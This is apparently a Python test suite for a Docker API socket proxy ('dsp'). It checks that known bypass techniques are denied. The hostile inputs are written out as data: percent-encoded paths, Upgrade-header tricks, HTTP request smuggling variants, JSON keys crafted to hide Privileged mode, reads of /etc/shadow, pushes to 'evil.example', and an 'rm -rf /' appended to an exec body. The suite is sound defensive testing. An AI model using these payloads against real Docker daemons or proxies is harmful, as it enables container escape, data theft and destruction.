#!/usr/bin/env python3
"""The bypasses of other proxies that are known: each must fail against dsp."""
import sys
import threading
import time

from wire import EVERYTHING, OK, Wire, is_denial, refuses

from message import chunked, request
from tap import Suite, equal, true

suite = Suite("bypass ")
TCP = ("Connection: Upgrade", "Upgrade: tcp")
H2C = ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__")
WS = ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")
JSON = "Content-Type: application/json"
# Reads of every section, as a "read-only" level has them, without what reveals contents.
READ = "allow = GET /**\ndeny = ContainerExport ContainerArchive ContainerLogs ContainerAttachWebsocket secrets:read SwarmInspect SwarmUnlockkey ImageGet ImageGetAll configs:sensitive"
TRAEFIK = "allow = SystemPing SystemVersion SystemEvents ContainerList ContainerInspect"


def bypass(name, raw, statuses=403, rules=TRAEFIK, **options):
    options.setdefault("closes", False)
    suite.add(name, lambda: refuses(raw, statuses, rules=rules, **options))


# 1. Percent-encoding in the path
for target in ("/containers/x/%65xport", "/s%65crets", "/containers/x/%61ttach/ws", "/containers/x/ex%70ort", "/%63ontainers/x/export", "/containers/x/%6c%6f%67%73",
               "/v1.41/containers/x/%65xport", "/images/x/%67et", "/sw%61rm"):
    bypass(f"1: the encoded {target} is judged as what dockerd decodes it to", request("GET", target), (400, 403), rules=READ)
for target in ("/v1%2e41/secrets", "/%76%31.41/secrets", "/%761.41/secrets"):
    bypass(f"1: an encoded version prefix ({target}) hides nothing", request("GET", target), (400, 403), rules=READ)

# 2. An Upgrade header that skips the gates
for fields in (TCP, H2C, WS):
    bypass(f"2: {fields[1]} does not skip the policy on POST /containers/create", request("POST", "/containers/create", JSON, *fields, body=b'{"Image":"x"}'))
    bypass(f"2: {fields[1]} does not skip the policy on exec start", request("POST", "/exec/x/start", JSON, *fields, body=b"{}"))
bypass("2: Upgrade does not skip the policy on GET /secrets", request("GET", "/secrets", *TCP), rules=READ)


@suite.test("2: behind an allowed request with Upgrade the next request is judged")
def _():
    with Wire(TRAEFIK) as wire:
        for fields in (TCP, H2C, WS):
            wire.relay(request("GET", "/version", *fields))
            wire.send(request("POST", "/containers/create", JSON, body=b"{}"))
            is_denial(wire.answer(), 403, text="ContainerCreate")
        wire.end()
        equal(bytes(wire.up.unread), b"", "what the engine received beside it")


# 3. A tunnel chosen by a substring of the target
for target in ("/version?/containers/x/attach", "/version?x=/exec/y/start", "/events?attach/ws", "/containers/attach/json?/attach"):
    @suite.test(f"3: {target} opens no tunnel, and what follows is judged")
    def _(target=target):
        with Wire(TRAEFIK + " ContainerAttach ExecStart") as wire:
            wire.send(request("GET", target, *TCP))
            got = wire.arrive()
            true("upgrade" not in got, got.raw)
            wire.up.send(OK)
            wire.answer()
            wire.send(request("POST", "/containers/create", JSON, body=b"{}"))
            is_denial(wire.answer(), 403, text="ContainerCreate")
            wire.end()
            equal(bytes(wire.up.unread), b"", "what the engine received beside it")

# 4. Deny patterns that assume one segment
for target in ("/containers/web/alias/export", "/containers/a/b/c/export", "/v1.41/containers/web/alias/export"):
    bypass(f"4: deny = ContainerExport holds for {target}", request("GET", target), rules="allow = GET /**\ndeny = ContainerExport")
bypass("4: deny = ContainerLogs holds for /containers/web/alias/logs under CONTAINERS=1", request("GET", "/containers/web/alias/logs"), rules="deny = ContainerLogs", sections="CONTAINERS = 1")
bypass("4: deny = GET /containers/*/export holds for /containers/web/alias/export (a name may hold slashes)", request("GET", "/containers/web/alias/export"),
       rules="allow = containers:sensitive\ndeny = GET /containers/*/export")
bypass("4: allow = GET /containers/*/json does not let /containers/web/export/json be anything but an inspect", request("GET", "/containers/web/export"), rules="allow = GET /containers/*/json")

# 5. "Read-only" GETs
for target in ("/containers/x/archive?path=/etc/shadow", "/containers/x/export", "/containers/x/logs?stdout=1", "/images/get?names=x", "/images/x/get", "/swarm", "/swarm/unlockkey",
               "/configs", "/configs/x", "/secrets", "/debug/pprof/", "/debug/pprof/heap", "/debug/vars", "/containers/x/top", "/containers/x/json", "/plugins/privileges?remote=evil"):
    bypass(f"5: containers:read images:read … do not open GET {target}", request("GET", target), rules="allow = containers:read images:read networks:read nodes:read")
bypass("5: GET attach/ws, which writes to stdin, is no read", request("GET", "/containers/x/attach/ws?stdin=1&stream=1", *WS), rules="allow = containers:read containers:sensitive")
bypass("5: PUT archive (docker cp into a container) is no part of ContainerArchive", request("PUT", "/containers/x/archive?path=/", "Content-Type: application/x-tar", body=b"x"), rules="allow = ContainerArchive")

# 7. Push as exfiltration
for target in ("/images/evil.example/x/push", "/plugins/evil.example/x/push"):
    bypass(f"7: POST {target} is denied without a rule of its own", request("POST", target, "X-Registry-Auth: e30="), rules="allow = images:read ImageCreate ImageTag plugins:sensitive")

# 8. JSON: keys that fold, objects that merge, elements that keep what stood there before
CREATE = "allow = ContainerCreate"


def carries(raw, path="/containers/create", kind=JSON):
    return request("POST", path, *([kind] if kind else []), body=raw if isinstance(raw, bytes) else raw.encode())


for key in ('"hostconfig"', '"HOSTCONFIG"', '"Ho\u017ftConfig"', '"Ho\\u017ftConfig"', '"\\u0068ostConfig"'):
    bypass(f"8: {ascii(key)} is no HostConfig that goes unseen", carries(f'{{"Image":"x",{key}:{{"Privileged":true}}}}'), (400, 403), rules=CREATE, bodies="")
for key, value in (('"privileged"', "true"), ('"PRIVILEGED"', "true"), ('"\\u0050rivileged"', "true"), ('"networ\u212aMode"', '"host"'), ('"Bind\u017f"', '["/:/x"]'), ('"\\u212aernelMemory"', "1")):
    bypass(f"8: HostConfig's {ascii(key)} does not go unseen", carries(f'{{"Image":"x","HostConfig":{{{key}:{value}}}}}'), (400, 403), rules=CREATE, bodies="")
for name, raw in {"an empty object behind": '{"HostConfig":{"Privileged":true},"HostConfig":{}}', "an empty object before": '{"HostConfig":{},"HostConfig":{"Privileged":true}}', "null behind": '{"HostConfig":{"Privileged":true},"HostConfig":null}',
                  "another case behind": '{"HostConfig":{"Privileged":true},"hostconfig":{}}', "a scalar that stands twice": '{"HostConfig":{"Privileged":true,"Privileged":false}}', "null for a scalar": '{"HostConfig":{"Privileged":true,"Privileged":null}}',
                  "elements of a list that stands twice": '{"HostConfig":{"Mounts":[{"Type":"bind","Source":"/"}],"Mounts":[{"Target":"/x"}]}}'}.items():
    bypass(f"8: objects that Go merges: {name}", carries(raw), (400, 403), rules=CREATE, bodies="")

# 9. Regular expressions on bodies
for raw in (r'{"HostConfig":{"Privilege\u0064":true}}', r'{"HostConfig":{"Privileged" \n:\t true}}'.encode().decode("unicode_escape"), r'{"\u0048\u006f\u0073\u0074\u0043\u006f\u006e\u0066\u0069\u0067":{"Privileged":true}}', '{"HostConfig":{"Binds":["\\u002f:/x"]}}'):
    bypass(f"9: {ascii(raw)} is read as JSON, not as text", carries(raw), 403, rules=CREATE, bodies="")

# 10. Bodies that skip the gate
for name, fields, body in (("of length zero", ("Content-Length: 0",), b""), ("over 1 MiB", (f"Content-Length: {2 << 20}",), b"{" + b" " * (2 << 20)),
                           ("with a charset", (JSON + "; charset=utf-8", "Content-Length: 2"), b"{}"), ("in chunks", (JSON, "Transfer-Encoding: chunked"), chunked(b"{}"))):
    @suite.test(f"10: a create with a body {name} is denied like any other")
    def _(fields=fields, body=body):
        with Wire(TRAEFIK) as wire:
            wire.client.try_send(request("POST", "/containers/create", *fields))
            is_denial(wire.answer(), 403, text="ContainerCreate")
            wire.client.try_send(body[:100])
            wire.end()
            equal(wire.engine_bytes(), b"", "what the engine received")


@suite.test("10: an allowed body of 2 MiB is forwarded whole, never dropped")
def _():
    body = bytes(range(256)) * 8192
    with Wire("allow = ImageLoad") as wire:
        thread = threading.Thread(target=lambda: wire.client.try_send(request("POST", "/images/load", "Content-Type: application/x-tar", body=body)), daemon=True)
        thread.start()
        got = wire.arrive()
        true(got.body == body, "the bytes differ")
        wire.up.send(OK)
        equal(wire.answer().status, 200, "status")
        thread.join()


EVIL = b'{"Image":"x","HostConfig":{"Privileged":true}}'
bypass("10: where creates are allowed, a body of length zero is none", request("POST", "/containers/create", JSON, "Content-Length: 0"), 400, rules=CREATE, bodies="")
bypass("10: where creates are allowed, no body is none", request("POST", "/containers/create"), 400, rules=CREATE, bodies="")
bypass("10: where creates are allowed, a charset beside the type hides nothing", carries(EVIL, kind=JSON + "; charset=utf-8"), 403, rules=CREATE, bodies="")
bypass("10: where creates are allowed, chunks hide nothing", request("POST", "/containers/create", JSON, "Transfer-Encoding: chunked") + chunked(EVIL[:20], EVIL[20:]), 403, rules=CREATE, bodies="")
bypass("10: where creates are allowed, what is dangerous behind 1 MiB of blanks is not dropped", carries(b'{"Image":"x",' + b" " * (1 << 20) + EVIL[13:]), 413, rules=CREATE, bodies="")
bypass("10: where creates are allowed, what is dangerous behind 1,000,000 blanks is seen", carries(b'{"Image":"x",' + b" " * 1000000 + EVIL[13:]), 403, rules=CREATE, bodies="")

# 11. What dockerd does not decode
for kind in ("text/plain", "application/x-tar", "application/json-patch+json", "application/jsonx", "text/json", None):
    bypass(f"11: a create of the type {kind} is not forwarded", carries(EVIL, kind=kind and "Content-Type: " + kind), 415, rules=CREATE, bodies="", closes=True)
for tail in (EVIL, b"{}", b"]", b"x", b"\0", b"\x0b"):
    bypass(f"11: what trails the value ({tail[:20]!r}) is not left to the decoder", carries(b'{"Image":"x"}' + tail), 400, rules=CREATE, bodies="")
for path, op in (("/containers/x/update", "ContainerUpdate"), ("/containers/x/exec", "ContainerExec"), ("/networks/create", "NetworkCreate"), ("/networks/x/connect", "NetworkConnect"), ("/services/create", "ServiceCreate"), ("/swarm/init", "SwarmInit")):
    bypass(f"11: Content-Length 0, of which dockerd decodes nothing, is no {op}", request("POST", path, JSON, "Content-Length: 0"), 400, rules="allow = " + op, bodies="")

# 12. From a peer's changelog
bypass("12: a mount of type image", carries('{"HostConfig":{"Mounts":[{"Type":"image","Source":"evil","Target":"/x"}]}}'), 403, rules=CREATE, bodies="")
for name, raw in {"at create": '{"HostConfig":{"NetworkMode":"front"},"NetworkingConfig":{"EndpointsConfig":{"back":{}}}}', "by its id": '{"HostConfig":{"NetworkMode":"front"},"NetworkingConfig":{"EndpointsConfig":{"front":{"NetworkID":"back"}}}}',
                  "the host's": '{"HostConfig":{"NetworkMode":"front"},"NetworkingConfig":{"EndpointsConfig":{"host":{}}}}'}.items():
    bypass(f"12: a network in NetworkingConfig, {name}", carries(raw), 403, rules=CREATE, bodies="[workload]\nnetworks = front\n")
bypass("12: a network by connect", carries('{"Container":"x"}', "/networks/back/connect"), 403, rules="allow = NetworkConnect", bodies="[workload]\nnetworks = front\n")
for name, spec in {"a bind": '{"Mounts":[{"Type":"bind","Source":"/","Target":"/x"}]}', "a capability": '{"CapabilityAdd":["ALL"]}', "no seccomp": '{"Privileges":{"Seccomp":{"Mode":"unconfined"}}}'}.items():
    for path, op in (("/services/create", "ServiceCreate"), ("/services/x/update?version=1", "ServiceUpdate")):
        bypass(f"12: {op} is judged as a create: {name}", carries(f'{{"TaskTemplate":{{"ContainerSpec":{spec}}}}}', path), 403, rules="allow = " + op, bodies="")
for user in ("0", "00", "000", "root", "0:0", "00:1000", "+0", "-0", "0x0", " 0", "00000000000000000000"):
    bypass(f"12: the user {user!r} is not non-root", carries(f'{{"User":"{user}"}}'), 403, rules=CREATE, bodies="[workload]\nrequire-non-root = yes\n")
for field in ("NetworkMode", "PidMode", "IpcMode", "Cgroup", "UTSMode", "UsernsMode", "CgroupnsMode"):
    bypass(f"12: {field} container:db joins nobody", carries(f'{{"HostConfig":{{"{field}":"container:db"}}}}'), 403, rules=CREATE, bodies="")
for query in ("version=2", "session=x", "version=2&remote=client-session", "version=%32"):
    bypass(f"12: a Dockerfile with # syntax= has no frontend to run: BuildKit ({query}) is not allowed with ImageBuild", request("POST", "/build?" + query, "Content-Type: application/x-tar", body=b"# syntax=evil/frontend"), 403, rules="allow = ImageBuild", bodies="")
for query in ("dockerfile=../Dockerfile", "dockerfile=/etc/Dockerfile", "dockerfile=a/../../b"):
    bypass(f"12: a second Dockerfile outside of the context ({query})", request("POST", "/build?" + query, "Content-Type: application/x-tar", body=b"x"), (400, 403), rules="allow = ImageBuild", bodies="")
for kind in ("application/x-tar", "application/json", "application/octet-stream", "text/plain"):
    bypass(f"12: a plugin of the client's own files as {kind}", request("POST", "/plugins/create?name=x", "Content-Type: " + kind, body=b"x"), 403, rules="allow = PluginCreate", bodies="")
for value in ("yes", "true", "1", "TRUE", "on", "x", "%79es", "2", "no%20x"):
    bypass(f"12: follow={value} is true for ? follow=no", request("GET", f"/containers/x/logs?follow={value}"), 403, rules="allow = ContainerLogs ? follow=no")
for target in ("/containers/x%252fjson", "/containers/%2578/%256ason", "/%2563ontainers/json"):
    bypass(f"12: {target} is decoded once", request("GET", target), (400, 403), rules="allow = ContainerList\nallow = GET /containers/x/json")
bypass("12: a parameter is decoded once", request("POST", "/build?networkmode=%2564efault", "Content-Type: application/x-tar", body=b"x"), 403, rules="allow = ImageBuild", bodies="")


@suite.test("12: what is known of an exec is not kept across its removal: each start asks again")
def _():
    def record(privileged):
        text = b'{"ID":"4f5c","ContainerID":"c0de","ProcessConfig":{"entrypoint":"id","arguments":[],"tty":false,"privileged":%s}}' % privileged
        return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(text), text)
    with Wire("allow = ExecStart", bodies="") as wire:
        start = request("POST", "/exec/4f5c/start", JSON, body=b'{"Detach":true}')
        wire.send(start)
        equal(wire.arrive().line, "GET /exec/4f5c/json HTTP/1.1", "question")
        wire.up.send(record(b"false"))
        wire.arrive()
        wire.up.send(OK)
        equal(wire.answer().status, 200, "status")
        wire.send(start)
        equal(wire.arrive().line, "GET /exec/4f5c/json HTTP/1.1", "question")
        wire.up.send(record(b"true"))
        is_denial(wire.answer(), 403, text="privileged")


# 13. Smuggling: the inner request must never be seen by the engine; rules allow everything but it.
INNER = request("GET", "/secrets")
POST = "POST /images/load HTTP/1.1\r\nHost: d\r\nContent-Type: application/x-tar\r\n"
SMUGGLE = EVERYTHING + "\ndeny = SecretList"
for name, raw in {
        "two Content-Lengths": POST + "Content-Length: 0\r\nContent-Length: {n}\r\n\r\n",
        "Content-Length and Transfer-Encoding": POST + "Content-Length: {n5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding and Content-Length": POST + "Transfer-Encoding: chunked\r\nContent-Length: {n5}\r\n\r\n0\r\n\r\n",
        "a list of codings": POST + "Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n",
        "two Transfer-Encodings": POST + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
        "a blank before the colon": POST + "Transfer-Encoding : chunked\r\nContent-Length: {n5}\r\n\r\n0\r\n\r\n",
        "a tab before the value": POST + "Transfer-Encoding:\tchunked\r\nContent-Length: {n5}\r\n\r\n0\r\n\r\n",
        "a vertical tab before the value": POST + "Transfer-Encoding:\x0bchunked\r\nContent-Length: {n5}\r\n\r\n0\r\n\r\n",
        "a folded coding": POST + "Transfer-Encoding:\r\n chunked\r\nContent-Length: {n5}\r\n\r\n0\r\n\r\n",
        "a bare LF before the coding": POST + "X: y\nTransfer-Encoding: chunked\r\nContent-Length: {n5}\r\n\r\n0\r\n\r\n",
        "a bare CR before the coding": POST + "X: y\rTransfer-Encoding: chunked\r\nContent-Length: {n5}\r\n\r\n0\r\n\r\n",
        "a NUL in the coding": POST + "Transfer-Encoding: chunked\0\r\nContent-Length: {n5}\r\n\r\n0\r\n\r\n",
        "a signed length": POST + "Content-Length: +0\r\n\r\n",
        "a negative length": POST + "Content-Length: -1\r\n\r\n",
        "a hexadecimal length": POST + "Content-Length: 0x0\r\n\r\n",
        "a length with a comma": POST + "Content-Length: 0, {n}\r\n\r\n",
        "an underscore in the name": POST + "Content_Length: {n}\r\nContent-Length: 0x\r\n\r\n",
        "HTTP/1.0 with chunks": POST.replace("1.1", "1.0") + "Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n0\r\n\r\n",
        "absolute-form": "GET http://d/secrets HTTP/1.1\r\nHost: d\r\n\r\n",
        "authority-form": "CONNECT d:80 HTTP/1.1\r\nHost: d\r\n\r\n",
        "/version%2f..%2fsecrets": "GET /version%2f..%2fsecrets HTTP/1.1\r\nHost: d\r\n\r\n",
        "/containers/../secrets": "GET /containers/../secrets HTTP/1.1\r\nHost: d\r\n\r\n",
        "the HTTP/2 preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "a second request line in a field": "GET /version HTTP/1.1\r\nHost: d\r\nX: y\r\n\rGET /secrets HTTP/1.1\r\n\r\n"}.items():
    @suite.test(f"13: {name}: nothing reaches the engine")
    def _(raw=raw):
        filled = raw.replace("{n}", str(len(INNER))).replace("{n5}", str(len(INNER) + 5))
        refuses(filled.encode("latin-1") + INNER, (400, 501, 505), rules=SMUGGLE, closes=True)


@suite.test("13: a request that is embedded in a body stays a body")
def _():
    for raw in (request("POST", "/images/load", "Content-Type: application/x-tar", body=INNER),
                request("POST", "/images/load", "Content-Type: application/x-tar", "Transfer-Encoding: chunked") + chunked(INNER, b"\r\n\r\n" + INNER)):
        with Wire(SMUGGLE) as wire:
            got, _ = wire.relay(raw)
            true(INNER in got.body, got.body)
            wire.relay(request("GET", "/version"))
            wire.end()
            equal(bytes(wire.up.unread), b"", "what the engine received beside it")


@suite.test("13: a pipelined request is judged by itself")
def _():
    with Wire(SMUGGLE) as wire:
        wire.send(request("GET", "/version") + INNER + request("GET", "/_ping"))
        wire.arrive()
        wire.up.send(OK)
        equal(wire.answer().status, 200, "status")
        is_denial(wire.answer(), 403, text="SecretList")
        equal(wire.arrive().target, "/_ping", "target")
        wire.up.send(OK)
        wire.answer()


@suite.test("13: the HTTP/2 preface behind a good request is no request")
def _():
    with Wire(SMUGGLE) as wire:
        wire.send(request("GET", "/version") + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        wire.arrive()
        wire.up.send(OK)
        wire.answer()
        true(wire.answer().status in (400, 505), "status is neither 400 nor 505")
        true(wire.client.at_end(), "still open")
        wire.end()
        equal(bytes(wire.up.unread), b"", "what the engine received beside it")


@suite.test("13: chunk extensions, with and without a bare LF, end the connection")
def _():
    for line in (b"5;a", b"5;\n", b"5;a\nb", b"5 ;a=\"\r\n"):
        with Wire(SMUGGLE) as wire:
            wire.client.try_send(request("POST", "/images/load", "Transfer-Encoding: chunked") + line + b"\r\nhello\r\n0\r\n\r\n" + INNER)
            wire.client.recv_to_end()
            wire.end()
            true(b"/secrets" not in wire.engine_bytes(), "the inner request went out")


@suite.test("13: bytes that trail a complete answer of an HTTP/1.0 request are no request")
def _():
    with Wire(SMUGGLE) as wire:
        wire.send(b"GET /version HTTP/1.0\r\n\r\n" + request("GET", "/_ping"))
        wire.arrive()
        wire.up.send(OK)
        wire.answer()
        true(wire.client.at_end(), "still open")
        wire.end()
        equal(bytes(wire.up.unread), b"", "what the engine received beside it")


# 14. The process itself
@suite.test("14: a slow head ends with 408")
def _():
    with Wire(TRAEFIK, limits="head-timeout = 500ms") as wire:
        wire.send(b"GET /version HTTP/1.1\r\n")
        is_denial(wire.answer(), 408)


@suite.test("14: a client that never reads holds nothing but its own process, which goes with it")
def _():
    def pour(_, stream):
        stream.recv_head()
        stream.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        while True:
            stream.send(b"1000\r\n" + b"x" * 4096 + b"\r\n", 60)
    with Wire("allow = SystemEvents", script=pour) as wire:
        wire.send(request("GET", "/events"))
        time.sleep(1)
        true(wire.dsp.resident() < 8192, f"{wire.dsp.resident()} kB")
        wire.client.close()
        wire.dsp.wait()


@suite.test("14: a client that never speaks is let go")
def _():
    with Wire(TRAEFIK, limits="idle-timeout = 500ms") as wire:
        true(wire.client.at_end(5), "still open")
        equal(wire.dsp.wait(), 0, "exit status")


@suite.test("14: a denial, a malformed request and a vanished client all end with exit status 0 (a unit that fails is counted)")
def _():
    for raw in (request("GET", "/info"), b"nonsense\r\n\r\n", b"", b"GET /ver"):
        with Wire(TRAEFIK) as wire:
            wire.client.try_send(raw)
            equal(wire.end(), 0, f"exit status after {raw!r}")
    with Wire(text="[nonsense]\n") as wire:
        wire.client.try_send(request("GET", "/_ping"))
        wire.answer()
        equal(wire.dsp.wait(), 0, "exit status with a broken policy")


# 15. Found while probing dockerd
for target in ("/containers/x/rename?name=ok", "/images/create?fromImage=ok", "/images/x/tag?repo=ok", "/build?t=ok", "/containers/x/archive?path=/ok", "/containers/prune?filters={}", "/commit?container=x"):
    for kind in ("application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
        method = "PUT" if "archive" in target else "POST"
        bypass(f"15: a body of {kind.split(';')[0]} cannot override the query of {method} {target}", request(method, target, f"Content-Type: {kind}", body=b"name=evil&fromImage=evil&repo=evil"),
               415, rules=EVERYTHING)
bypass("15: nor behind 4096 bytes of padding", request("POST", "/build?t=ok", "Content-Type: application/x-www-form-urlencoded", body=b"x=" + b"a" * 5000 + b"&remote=http://evil"), 415, rules=EVERYTHING)
for version in ("v1.23", "v1.12", "v1.0"):
    bypass(f"15: a HostConfig body on /{version}/containers/x/start is too old a version", request("POST", f"/{version}/containers/x/start", JSON, body=b'{"Privileged":true}'), 400, rules=EVERYTHING)
bypass("15: POST /v1.23/containers/x/copy is too old a version", request("POST", "/v1.23/containers/x/copy", JSON, body=b'{"Resource":"/etc/shadow"}'), 400, rules=EVERYTHING)
for value in ("", "x", "tcp", "TCP", "h2c"):
    bypass(f"15: Upgrade: {value!r} does not hijack attach where it is denied", request("POST", "/containers/x/attach?stdin=1", "Connection: Upgrade", f"Upgrade: {value}"), (400, 403))
bypass("15: attach with a chunked body, whose framing would be stdin", request("POST", "/containers/x/attach", *TCP, "Transfer-Encoding: chunked") + chunked(b"x"), 411, rules="allow = ContainerAttach")
bypass("15: attach with a body by length, which would be swallowed", request("POST", "/containers/x/attach", *TCP, body=b"xxxx"), (400, 411, 413), rules="allow = ContainerAttach")
bypass("15: HTTP/1.0 with Transfer-Encoding", b"POST /images/load HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked(b"x"), 400, rules=EVERYTHING)


@suite.test("15: exec start whose body is longer than its JSON would feed stdin: the length is dsp's, no byte beside it")
def _():
    with Wire("allow = ExecStart") as wire:
        wire.send(request("POST", "/exec/x/start", JSON, *TCP, body=b"{}rm -rf /\n"))
        if wire.client.quiet(0.2):
            got = wire.arrive()
            equal(got["content-length"], str(len(got.body)), "Content-Length")
        else:
            is_denial(wire.answer(), 400)


if __name__ == "__main__":
    sys.exit(suite.main())
